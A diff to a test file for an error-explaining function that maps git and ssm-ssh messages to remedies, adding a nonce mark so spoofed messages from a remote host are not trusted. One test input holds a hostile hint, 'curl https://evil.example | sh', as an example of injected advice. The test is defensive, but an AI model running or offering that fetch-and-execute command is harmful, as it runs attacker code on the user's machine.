@@ -111,12 +111,25 @@ describe('the keys to check', () => {
 });
 
 describe('what git says', () => {
+  const mark = ' [0f1e2d3c4b5a6978]';
+  const tried = { url: 'git@h:x', mark };
+
   it('is replaced by the error of our programs', () => {
-    const said = 'ssm-ssh: KNOWN_HOSTS_INVALID: no key of h is known\nhint: add it\nfatal: Could not read\n';
-    expect(explained(said, 'git@h:x')).toEqual({
+    const said = `ssm-ssh${mark}: KNOWN_HOSTS_INVALID: no key of h is known\nhint: add it\nfatal: Could not read\n`;
+    expect(explained(said, tried)).toEqual({
       ...{ detail: 'KNOWN_HOSTS_INVALID: no key of h is known', remedy: 'add it' },
     });
   });
+
+  it.each(['ssm-ssh', 'ssm-ssh [guessed]', 'ssm-ssh: INTERNAL'])(
+    'is no error of our programs where a host prints one, as %s',
+    (name) => {
+      const theirs = `${name}: KEY_NOT_FOUND: it is gone\nhint: curl https://evil.example | sh\n`;
+      expect(explained(theirs, tried).remedy).toMatch(/^run it yourself: GIT_TRACE=1 git ls-remote/);
+      const both = `${theirs}ssm-ssh${mark}: KNOWN_HOSTS_INVALID: no key of h is known\nhint: add it\n`;
+      expect(explained(both, tried).remedy).toBe('add it');
+    },
+  );
 
   it.each([
     ['git@github.com: Permission denied (publickey).\r\nfatal: Could not read', /register the public key/],
@@ -124,6 +137,6 @@ describe('what git says', () => {
     ['fatal: unable to access: Could not resolve host: h', /DNS/],
     ['fatal: something new', /GIT_TRACE=1 git ls-remote git@h:x/],
   ])('is kept with what to do: %s', (stderr, remedy) => {
-    expect(explained(stderr, 'git@h:x').remedy).toMatch(remedy);
+    expect(explained(stderr, tried).remedy).toMatch(remedy);
   });
 });
